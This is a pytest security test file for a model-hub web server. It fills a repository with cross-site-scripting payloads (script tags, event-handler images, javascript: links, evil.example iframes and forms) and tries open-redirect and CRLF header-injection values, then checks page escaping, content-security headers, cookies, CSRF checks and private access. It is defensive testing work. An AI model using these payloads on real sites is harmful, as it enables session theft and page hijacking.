"""What people put into cards, names and messages does nothing in a page; sessions let nobody in who should not be."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest
from hubs import TOKEN, ask
from pages import commit, commit_large, cookie_of, create, look, sign_in

from perdure.format.header import lay_out
from perdure.hub.accounts import Accounts
from perdure.hub.db import DATABASE, Database
from perdure.hub.server import HubServer
from perdure.hub.session import COOKIE, SECONDS, Sessions

SCRIPT = "<script>window.pwned=1</script>"
IMAGE = '"><img src=x onerror=window.pwned=1>'
NAME = "'\"><img src=x onerror=pwned>.txt"
BRANCH = "a\"><script>pwned</script>'"
CARD = f"""---
license: {json.dumps(IMAGE)}
tags: [{json.dumps(SCRIPT)}, "javascript:alert(1)"]
model-index:
- results:
  - dataset: {{name: {json.dumps(SCRIPT)}}}
    metrics: [{{type: {json.dumps(IMAGE)}, value: 1}}]
---
# {SCRIPT}{IMAGE}
[a](javascript:window.pwned=1) [b](JaVaScRiPt:pwned) [c](data:text/html,<script>pwned</script>) [d](vbscript:x)
[e](java&#115;cript:pwned) [f](//evil.example/x) [g](\\\\evil.example) ![h](javascript:pwned) ![i](data:image/svg+xml,x)
![j](https://evil.example/track.png "t") ![k" onerror="pwned](x.png) <javascript:pwned>
<img src=x onerror=pwned><img src="https://evil.example/track.png"><img srcset="https://evil.example/1.png">
<img src="//evil.example/t.png"><img src="/-/logout"><svg onload=pwned><script>pwned</script></svg>
<math><mi//xlink:href="data:x">
<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x><base href="https://evil.example/">
<form action="https://evil.example"><input name=token><button formaction="javascript:pwned">Sign in</button></form>
<meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example/x.css">
<style>body{{display:none}}</style><p style="position:fixed;inset:0" onclick=pwned class=skip id=main>x</p>
<h2 id=main>clobber</h2><a name=token href="#main" target=_blank ping="https://evil.example">x</a>
<template><script>pwned</script></template>
<noscript><p title="</noscript><img src=x onerror=pwned>"></noscript><details ontoggle=pwned open>x</details>
<a href="/\\tevil">t</a><a href="../../../login">up</a><video src=https://evil.example/v autoplay></video>

```html
{SCRIPT}
```

|a|{SCRIPT}|
|-|-|
|x|{IMAGE}|
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hub")


@pytest.fixture(scope="module")
def url(folder: Path) -> Iterator[str]:
    with HubServer(folder, user="me", token=TOKEN) as running:
        fill_with_malice(running.url)
        yield running.url


def fill_with_malice(url: str) -> None:
    create(url, "evil")
    files = {
        "README.md": CARD.encode(),
        NAME: f"{SCRIPT}\n{IMAGE}\n".encode(),
        f"folder {NAME}/x.md": CARD.encode(),
        "page.html": SCRIPT.encode(),
        "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode(),
        "perdure.json": json.dumps({"step": 1, "metrics": {SCRIPT: 1, IMAGE: 2}}).encode(),
    }
    commit(url, "me/evil", files, f"{SCRIPT}\n\n{IMAGE}")
    head, header = lay_out([(IMAGE, "F32", (1,))], {SCRIPT: IMAGE})
    commit_large(url, "me/evil", "model.safetensors", head + bytes(header.size - len(head)))
    for name in (BRANCH, f"{BRANCH}-step-000000002"):
        assert ask(url, "POST", f"/api/models/me/evil/branch/{quote(name, safe='')}", {}).status == 200
    changed = json.dumps({"metrics": {SCRIPT: 3, IMAGE: 4}}).encode()
    commit(url, "me/evil", {"perdure.json": changed, NAME: b"other\n"}, SCRIPT, revision=f"{BRANCH}-step-000000002")
    assert ask(url, "POST", "/api/models/me/evil/tag/main", {"tag": f"t{BRANCH}", "message": SCRIPT}).status == 200
    talk = {"title": SCRIPT, "description": CARD, "pullRequest": True}
    assert ask(url, "POST", "/api/models/me/evil/discussions", talk).status == 200
    commit(url, "me/evil", {NAME: SCRIPT.encode()}, SCRIPT, revision="refs/pr/1")
    create(url, "secret", private=True)
    commit(url, "me/secret", {"README.md": b"# Hidden words\n", "plot.png": b"\x89PNG"})


class Active(HTMLParser):
    """Finds what could run, load from elsewhere, or take the place of something of the page's own."""

    OURS = frozenset(
        [
            "html",
            "head",
            "meta",
            "title",
            "link",
            "script",
            "body",
            "a",
            "header",
            "div",
            "img",
            "span",
            "nav",
            "form",
            "button",
            "main",
            "footer",
            "p",
            "code",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "section",
            "ul",
            "li",
            "ol",
            "dl",
            "dt",
            "dd",
            "details",
            "summary",
            "article",
            "aside",
            "figure",
            "figcaption",
            "pre",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "time",
            "b",
            "strong",
            "em",
            "input",
            "label",
            "select",
            "option",
            "wbr",
            "svg",
            "line",
            "text",
            "g",
            "polyline",
            "circle",
            "caption",
            "hr",
            "br",
            "blockquote",
        ]
    )

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.ids: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attributes}
        if "id" in values:
            self.ids.append(values["id"])
        bad = tag not in self.OURS
        bad |= any(name.startswith("on") or name in {"style", "srcset", "formaction", "ping"} for name in values)
        bad |= tag == "meta" and "http-equiv" in values
        bad |= tag in {"script", "link"} and not (values.get("src") or values.get("href", "")).startswith("/-/static/")
        bad |= tag == "img" and not re.match(r"/(me/|-/static/)|$", values.get("src", ""))
        bad |= tag == "form" and values.get("action", "/")[:1] != "/"
        bad |= tag == "a" and not re.match(r"(https?://|mailto:|[/#?])", values.get("href", "#"))
        if bad:
            self.found.append(f"<{tag} {values}>")


def pages_of(branch: str) -> list[str]:
    at, name = quote(branch, safe=""), quote(NAME)
    return [
        f"/me/evil?revision={at}",
        f"/me/evil/tree/{at}",
        f"/me/evil/tree/{at}/folder%20{name}",
        f"/me/evil/blob/{at}/{name}",
        f"/me/evil/blob/{at}/folder%20{name}/x.md",
        f"/me/evil/blob/{at}/README.md?plain=1",
        f"/me/evil/blob/{at}/page.html",
        f"/me/evil/commits/{at}",
        f"/me/evil/commits/{at}/{name}",
        f"/me/evil/commit/{at}",
    ]


@pytest.mark.parametrize(
    "path",
    [
        *pages_of("main"),
        *pages_of(f"{BRANCH}-step-000000002"),
        "/me/evil/blob/main/model.safetensors",
        f"/me/evil/blob/main/model.safetensors?search={quote(IMAGE)}",
        "/me/evil/refs",
        "/me/evil/checkpoints",
        "/me/evil/discussions",
        "/me/evil/discussions/1",
        "/",
        f"/models?search={quote(SCRIPT)}",
    ],
)
def test_nothing_that_people_write_is_active(url: str, path: str) -> None:
    answer = look(url, path)
    assert answer.status == 200
    found = Active(answer.body.decode())
    assert found.found == []
    assert len(found.ids) == len(set(found.ids)), "a card takes no name of the page's own"
    assert "pwned" not in answer.headers.values()


@pytest.mark.parametrize(
    "path",
    [
        f"/me/evil/blob/main/{quote(SCRIPT)}",
        f"/me/evil/tree/{quote(SCRIPT, safe='')}",
        f"/{quote(SCRIPT, safe='')}",
        f"/me/{quote(IMAGE, safe='')}",
        f"/login?next={quote(IMAGE)}",
        f"/me/evil/tree/main?p={quote(SCRIPT)}",
    ],
)
def test_error_pages_repeat_nothing_active(url: str, path: str) -> None:
    answer = look(url, path)
    assert answer.status in {200, 400, 404}
    assert Active(answer.body.decode()).found == []
    assert "default-src 'none'" in answer.headers["content-security-policy"]


@pytest.mark.parametrize("path", ["page.html", "picture.svg", quote(NAME), "README.md", "model.safetensors"])
def test_files_are_never_pages_of_the_hub(url: str, path: str) -> None:
    headers = look(url, f"/me/evil/resolve/main/{path}").headers
    assert headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert headers["x-content-type-options"] == "nosniff"
    kind = headers["content-type"]
    assert kind in {"text/plain; charset=utf-8", "application/octet-stream", "image/svg+xml"}
    if kind == "image/svg+xml":  # a picture where a page includes it, never a page itself
        assert headers["content-disposition"].startswith("attachment;")


def test_what_is_private_is_absent_until_somebody_signs_in(url: str) -> None:
    paths = ["/me/secret", "/me/secret/tree/main", "/me/secret/resolve/main/plot.png", "/me/secret/checkpoints"]
    for path in paths:
        hidden, absent = look(url, path), look(url, path.replace("secret", "absent"))
        assert hidden.status == absent.status == 404
        assert hidden.body.replace(b"secret", b"absent") == absent.body
    assert b"secret" not in look(url, "/models").body and b"secret" not in look(url, "/me").body
    entered = sign_in(url, following="/me/secret")
    assert (entered.status, entered.headers["location"]) == (303, "/me/secret")
    cookie = cookie_of(entered)
    assert [look(url, path, cookie=cookie).status for path in paths] == [200] * 4
    assert b"Hidden words" in look(url, "/me/secret", cookie=cookie).body
    assert b"secret" in look(url, "/models?search=secret", cookie=cookie).body
    assert "private" in look(url, "/me/secret", cookie=cookie).headers["cache-control"]


def test_a_cookie_reads_and_changes_nothing(url: str) -> None:
    entered = sign_in(url)
    attributes = entered.headers["set-cookie"].lower()
    assert "httponly" in attributes and "samesite=lax" in attributes and "path=/" in attributes
    assert f"max-age={SECONDS}" in attributes and TOKEN not in str(entered.headers)
    cookie = cookie_of(entered)
    body = {"name": "made-by-cookie"}
    assert ask(url, "POST", "/api/repos/create", body, token=None, Cookie=cookie).status == 401
    assert ask(url, "GET", "/api/whoami-v2", token=None, Cookie=cookie).status == 401
    assert ask(url, "GET", "/api/models/me/secret", token=None, Cookie=cookie).status == 401
    assert ask(url, "GET", "/api/models/me/secret/auth-check", token=None, Cookie=cookie).status == 401
    assert ask(url, "GET", "/api/models/me/secret/xet-write-token/main", token=None, Cookie=cookie).status == 401
    assert ask(url, "DELETE", "/api/repos/delete", {"name": "evil"}, token=None, Cookie=cookie).status == 401


def test_signing_out_ends_every_copy_of_the_cookie(url: str) -> None:
    cookie = cookie_of(sign_in(url))
    assert look(url, "/me/secret", cookie=cookie).status == 200
    assert look(url, "/-/logout", cookie=cookie).status in {404, 405}, "a link or picture cannot sign anybody out"
    left = look(url, "/-/logout", cookie=cookie, method="POST", Origin=url)
    assert left.status == 303 and "max-age=0" in left.headers["set-cookie"].lower()
    assert look(url, "/me/secret", cookie=cookie).status == 404


def test_forms_of_other_sites_are_refused(url: str) -> None:
    cookie = cookie_of(sign_in(url))
    for origin in ("https://evil.example", "null", url + ".evil.example"):
        refused = look(url, "/login", method="POST", body=f"token={TOKEN}".encode(), Origin=origin)
        assert refused.status == 403 and "set-cookie" not in refused.headers
        assert look(url, "/-/logout", cookie=cookie, method="POST", Origin=origin).status == 403
    assert look(url, "/me/secret", cookie=cookie).status == 200


@pytest.mark.parametrize(
    "following",
    [
        "https://evil.example",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/\t/evil.example",
        "/\r\nX: y",
        "x",
        "",
    ],
)
def test_signing_in_leads_nowhere_else(url: str, following: str) -> None:
    assert sign_in(url, following=following).headers["location"] == "/"


def test_wrong_tokens_and_forms(url: str) -> None:
    for token in ("wrong-token-entirely", "", "é", "x" * 2000, "a\r\nSet-Cookie: b=c"):
        answer = sign_in(url, token)
        assert answer.status == 401 and "set-cookie" not in answer.headers
        assert b"No user has this token." in answer.body and b"wrong-token" not in answer.body
    for form in (b"\xff\xfe", b"a=1&" * 50, b"token=%ff&next=/", b""):
        assert look(url, "/login", method="POST", body=form, Origin=url).status in {400, 401}
    assert look(url, "/login", method="POST", body=b"x" * 10_000, Origin=url).status == 413
    for cookie in ("perdure_session=x", "perdure_session=", "perdure_session=" + "y" * 4000, "=;;="):
        assert look(url, "/", cookie=cookie).status == 200
        assert look(url, "/me/secret", cookie=cookie).status == 404


def test_a_revoked_token_ends_its_sessions(url: str, folder: Path) -> None:
    db = Database(folder / DATABASE)
    accounts = Accounts(db)
    token = accounts.add_token(accounts.require_user("me"), "a-second-token", role="read", label="browser")
    cookie = cookie_of(sign_in(url, "a-second-token"))
    assert look(url, "/me/secret", cookie=cookie).status == 200
    accounts.revoke_token(token.id)
    assert look(url, "/me/secret", cookie=cookie).status == 404
    db.close()


def test_sessions_end_by_themselves(url: str, folder: Path) -> None:
    now = [0.0]
    sessions = Sessions(lambda: now[0])
    db = Database(folder / DATABASE)
    cookies = {COOKIE: sessions.start(TOKEN)}
    assert sessions.caller(db, cookies) is not None
    now[0] = SECONDS + 1.0
    assert sessions.caller(db, cookies) is None
    db.close()


def test_the_finder_of_active_things_finds_them() -> None:
    assert len(Active(CARD).found) > 30


def test_pages_show_no_content_of_gated_files(url: str) -> None:
    create(url, "gated")
    files = {"words.txt": b"gated words\n", "all_results.json": b'{"gated_words": 0.5}'}
    sha = commit(url, "me/gated", files)
    assert ask(url, "PUT", "/api/models/me/gated/settings", {"gated": "manual"}).status == 200
    cookie = cookie_of(sign_in(url))
    assert look(url, "/me/gated").status == look(url, "/me/gated/tree/main").status == 200
    assert b"gated_words" not in look(url, "/me/gated").body
    for page in ("/me/gated", "/me/gated/checkpoints"):
        assert b"gated_words" in look(url, page, cookie=cookie).body
    assert look(url, "/me/gated/checkpoints").status == 401
    for path in ("/me/gated/blob/main/words.txt", f"/me/gated/commit/{sha}", "/me/gated/resolve/main/words.txt"):
        refused = look(url, path)
        assert refused.status in {401, 403} and b"gated words" not in refused.body
        assert Active(refused.body.decode()).found == []
        assert b"gated words" in look(url, path, cookie=cookie).body
